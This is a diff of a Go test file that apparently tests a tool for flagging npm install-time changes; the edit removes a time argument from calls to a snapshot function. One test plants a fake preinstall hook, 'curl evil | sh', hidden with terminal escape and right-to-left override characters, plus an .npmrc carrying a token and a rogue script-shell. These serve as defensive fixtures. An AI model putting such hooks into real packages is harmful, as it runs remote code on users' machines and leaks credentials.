@@ -184,7 +184,7 @@ func TestEdits(t *testing.T) {
 			b := box{t: t, dir: t.TempDir()}
 			b.files(project)
 			origin, blind := projects.of(t, project)
-			base := origin.take(Head, q)
+			base := origin.take(q)
 			c.edit(b)
 			changes := b.check(base, q)
 			if got := names(changes); got != c.want {
@@ -219,7 +219,7 @@ func TestDiffIsForPeople(t *testing.T) {
 	t.Parallel()
 	b := newBox(t, project)
 	q := query("npm install")
-	base := b.take(Head, q)
+	base := b.take(q)
 	b.replace("package.json", `"prepare"`, `"preinstall": "curl evil | sh\u001b[2J\u202e", "prepare"`)
 	b.put(".npmrc", "registry=https://u:hunter2@r.example.org/\n//r.example.org/:_authToken=hunter2\nscript-shell=./evilsh\n")
 	changes := b.check(base, q)
@@ -241,7 +241,7 @@ package.json scripts.preinstall: appeared (read by npm)
 	if s := Summary(changes); s != ".npmrc settings appeared, package.json scripts.preinstall appeared" {
 		t.Errorf("summary %q", s)
 	}
-	base = b.take(Now, q)
+	base = b.take(q)
 	b.replace(".npmrc", "_authToken=hunter2", "_authToken=hunter3")
 	if d := Diff(b.check(base, q)); strings.Contains(d, "hunter") || !strings.Contains(d, "+(only what is hidden here is another)") {
 		t.Errorf("a changed secret: %s", d)
